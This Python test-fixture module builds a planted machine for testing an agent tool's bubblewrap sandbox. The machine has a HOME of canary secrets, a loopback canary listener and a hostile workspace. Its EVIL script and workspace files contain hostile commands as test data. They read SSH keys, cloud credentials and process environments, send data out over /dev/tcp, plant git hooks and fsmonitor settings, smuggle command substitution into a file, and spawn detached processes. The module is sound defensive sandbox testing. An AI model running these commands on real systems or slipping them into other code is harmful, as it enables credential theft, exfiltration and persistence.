"""A planted machine for sandbox tests: a HOME full of canary secrets, a hostile workspace, a
canary listener on loopback, and snapshots to compare before and after each command.

Nothing here lives under the system temp dir: the sandbox replaces ``/tmp`` wholesale, so a
HOME under it would be hidden for that reason alone and prove nothing about the secret list.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import random
import secrets
import select
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

from tui.exec.sandbox.sandbox import Sandbox
from tui.security.secrets import SECRET_PATHS

BWRAP = shutil.which("bwrap")
SKIP_REASON = (
    "bubblewrap is not installed (apt-get install -y bubblewrap; .ci/run installs it): the "
    "sandbox cannot be tried for real here"
)
TEST_ROOT = Path(os.environ.get("AGENT_TUI_SANDBOX_TEST_ROOT", "/var/lib/agent-tui-tests"))
"""Outside ``/tmp`` on purpose (see the module docstring)."""

CANARY = "CANARY-" + secrets.token_hex(8)
"""Written into every secret the planted HOME holds: it must never come back out."""

EVIL = r"""#!/bin/bash
# Everything a command must not do, tried at once: whatever ran this got code execution.
echo evil-ran > "$HOME/.bashrc"
echo evil-ran > "$HOME/$ATUI_SANDBOX_TEST"
touch "/tmp/$ATUI_SANDBOX_TEST" "/var/tmp/$ATUI_SANDBOX_TEST" "/dev/shm/$ATUI_SANDBOX_TEST"
cat "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials" "$HOME/.netrc" 2>&1
cat "$HOME"/.local/share/agent-tui/sessions/* "$HOME/.config/agent-tui/config.toml" 2>&1
cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -a CANARY
(echo leak >/dev/tcp/"$CANARY_HOST"/"$CANARY_PORT") 2>/dev/null && echo CONNECTED
echo evil > .git/hooks/pre-commit
git config core.fsmonitor "$HOME/x" 2>/dev/null
echo '{"mcpServers": {"x": {"command": "sh"}}}' > .mcp.json
cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern 2>/dev/null && echo SYSCTL-WROTE
setsid -f sleep 300 >/dev/null 2>&1
nohup sleep 301 >/dev/null 2>&1 &
exit 0
"""
"""The workspace's ``./evil`` (and ``./x``, ``./evil.sh``): what the corpus's placeholder
programs run here."""


def bwrap_works() -> bool:
    if BWRAP is None:
        return False
    probe = subprocess.run(
        [BWRAP, "--ro-bind", "/", "/", "--unshare-all", "--cap-drop", "ALL", "--", "true"],
        capture_output=True,
        check=False,
    )
    return probe.returncode == 0


class CanaryListener:
    """A TCP listener on the host's loopback that counts who reached it.

    Its address is one of loopback's own (127.x.y.z, chosen at random), not 127.0.0.1: tests
    running beside it in other processes connect to ports they think closed, and one that
    lands on this listener must not count as a sandbox's escape.
    """

    def __init__(self) -> None:
        self.host = "127.{}.{}.{}".format(*(random.randrange(1, 255) for _ in range(3)))
        self.sock = socket.socket()
        self.sock.bind((self.host, 0))
        self.sock.listen(64)
        self.sock.setblocking(False)
        self.port = self.sock.getsockname()[1]
        self._count = 0
        self.received = b""
        self._lock = threading.Lock()
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def connections(self) -> int:
        """Every connection made so far, those still in the accept queue included: a command
        that connected has ended by the time it is judged, so its connection is queued by now
        even when the thread below has not come round to it (a loaded machine)."""
        self._take_waiting()
        return self._count

    def _serve(self) -> None:
        while not self._stop:
            try:
                select.select([self.sock], [], [], 0.2)
            except (OSError, ValueError):
                return
            self._take_waiting()

    def _take_waiting(self) -> None:
        with self._lock:
            while True:
                try:
                    client, _ = self.sock.accept()
                except (BlockingIOError, InterruptedError):
                    return
                except OSError:
                    return
                self._count += 1
                client.settimeout(0.5)
                with contextlib.suppress(OSError):
                    self.received += client.recv(65536)
                client.close()

    def close(self) -> None:
        self._stop = True
        self.sock.close()
        self._thread.join(timeout=2)


@dataclass
class Planted:
    """The planted machine: where everything is, and what must stay unchanged."""

    root: Path
    home: Path
    workspace: Path
    config: Path
    data: Path
    socket_path: Path
    listener: CanaryListener
    token: str = field(default_factory=lambda: "atui" + secrets.token_hex(6))
    """Every file a hostile command tries to create carries it; so does its environment."""

    def env(self) -> dict[str, str]:
        return {
            "HOME": str(self.home),
            "PATH": "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin",
            "LANG": "C.UTF-8",
            "ATUI_SANDBOX_TEST": self.token,
            "CANARY_HOST": self.listener.host,
            "CANARY_PORT": str(self.listener.port),
            # ``git filter-branch`` would otherwise wait 10 s before rewriting anything.
            "FILTER_BRANCH_SQUELCH_WARNING": "1",
        }

    def rebuild_workspace(self) -> None:
        """The hostile workspace afresh (after a command allowed to write it did)."""
        shutil.rmtree(self.workspace)
        self.workspace.mkdir()
        _hostile_workspace(self.workspace, self.home)

    def sandbox(self) -> Sandbox:
        return Sandbox(
            workspace=self.workspace,
            patterns=(*SECRET_PATHS, str(self.config / "config.toml")),
            own_dirs=(self.config, self.data),
            readable_again=(self.config / "skills",),
            home=str(self.home),
        )


def plant(root: Path) -> Planted:
    """Build the planted machine under ``root`` (created; removed by the caller)."""
    home, workspace = root / "home", root / "ws"
    config, data = home / ".config" / "agent-tui", home / ".local" / "share" / "agent-tui"
    for folder in (home / ".ssh", home / ".aws", workspace):
        folder.mkdir(parents=True)
    for path in (
        home / ".ssh" / "id_rsa",
        home / ".ssh" / "id_ed25519",
        home / ".aws" / "credentials",
        home / ".netrc",
        home / ".bash_history",
        config / "config.toml",
        data / "sessions" / "other-session.jsonl",
        data / "tool-output" / "call_1-stdout.txt",
    ):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"secret {CANARY}\n")
    (config / "skills" / "hello").mkdir(parents=True)
    (config / "skills" / "hello" / "SKILL.md").write_text("---\nname: hello\n---\nsay hi\n")
    (home / ".bashrc").write_text("# the person's own\n")
    (home / ".profile").write_text("# the person's own\n")
    _hostile_workspace(workspace, home)
    socket_path = root / "door.sock"
    listener = CanaryListener()
    return Planted(root, home, workspace, config, data, socket_path, listener)


def _hostile_workspace(workspace: Path, home: Path) -> None:
    """What a cloned repository can ship: code in data, its own ``ls``, a symlink to a key, a
    bare repository whose config runs a program, git hooks and config."""
    (workspace / "bin").mkdir()
    (workspace / "docs").mkdir()
    (workspace / "VERSION").write_text("a[$(touch X_VERSION_RAN)]\n")
    evil_ls = workspace / "bin" / "ls"
    evil_ls.write_text('#!/bin/sh\necho repo-ls-ran > "$HOME/.bashrc"\n')
    evil_ls.chmod(0o755)
    (workspace / "docs" / "key").symlink_to(home / ".ssh" / "id_rsa")
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    bare = workspace / "vendored.git"
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
    monitor = workspace / "monitor.sh"
    monitor.write_text('#!/bin/sh\necho fsmonitor-ran > "$HOME/.profile"\n')
    monitor.chmod(0o755)
    subprocess.run(["git", "-C", str(bare), "config", "core.fsmonitor", str(monitor)], check=True)
    # The hooks folders stay; git's 26 sample hooks only made each walk that runs a program per
    # file (``find -exec ./evil``, ``rg --pre``) run the evil script 26 more times.
    for sample in workspace.glob("**/hooks/*.sample"):
        sample.unlink()
    (workspace / ".mcp.json").write_text("{}\n")
    (workspace / ".agent-tui.toml").write_text("")
    (workspace / "README.md").write_text("# project\n")
    for name in ("evil", "evil.sh", "x"):
        script = workspace / name
        script.write_text(EVIL)
        script.chmod(0o755)


Snapshot = dict[str, tuple[str, str]]


def snapshot(root: Path, *, skip: tuple[str, ...] = ()) -> Snapshot:
    """Every path under ``root`` with its kind and content digest (symlinks by target)."""
    found: Snapshot = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
        for name in [*dirs, *files]:
            path = os.path.join(folder, name)
            rel = os.path.relpath(path, root)
            if os.path.islink(path):
                found[rel] = ("link", os.readlink(path))
            elif os.path.isdir(path):
                found[rel] = ("dir", oct(os.stat(path).st_mode & 0o7777))
            else:
                try:
                    digest = hashlib.sha256(Path(path).read_bytes()).hexdigest()
                except OSError as error:
                    digest = f"unreadable {error.errno}"
                found[rel] = ("file", digest)
    return found


def changed(before: Snapshot, after: Snapshot) -> list[str]:
    return sorted(key for key in set(before) | set(after) if before.get(key) != after.get(key))


def stray_files(
    *tokens: str, roots: tuple[str, ...] = ("/tmp", "/var/tmp", "/dev/shm")
) -> list[str]:
    """Paths in the system's shared temp folders whose name carries any of ``tokens``: one
    walk for all of them, since during a suite run ``/tmp`` holds tens of thousands of
    pytest's own folders."""
    found = []
    for root in roots:
        for folder, dirs, files in os.walk(root):
            depth = folder[len(root) :].count(os.sep)
            if depth >= 3:
                dirs[:] = []
            found += [
                os.path.join(folder, n)
                for n in [*dirs, *files]
                if any(token in n for token in tokens)
            ]
    return found


def processes_with(token: str) -> list[int]:
    """Live processes whose environment carries ``token`` (zombies excluded)."""
    pids = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat", "rb") as stat:
                if stat.read().rsplit(b")", 1)[-1].split()[0] == b"Z":
                    continue
            with open(f"/proc/{entry}/environ", "rb") as environ:
                if token.encode() in environ.read():
                    pids.append(int(entry))
        except OSError:
            continue
    return pids


@contextlib.contextmanager
def planted_machine() -> Iterator[Planted]:
    TEST_ROOT.mkdir(parents=True, exist_ok=True)
    root = TEST_ROOT / secrets.token_hex(6)
    root.mkdir()
    machine = plant(root)
    door = socket.socket(socket.AF_UNIX)
    door.bind(str(machine.socket_path))
    door.listen(8)
    try:
        yield machine
    finally:
        door.close()
        machine.listener.close()
        shutil.rmtree(root, ignore_errors=True)
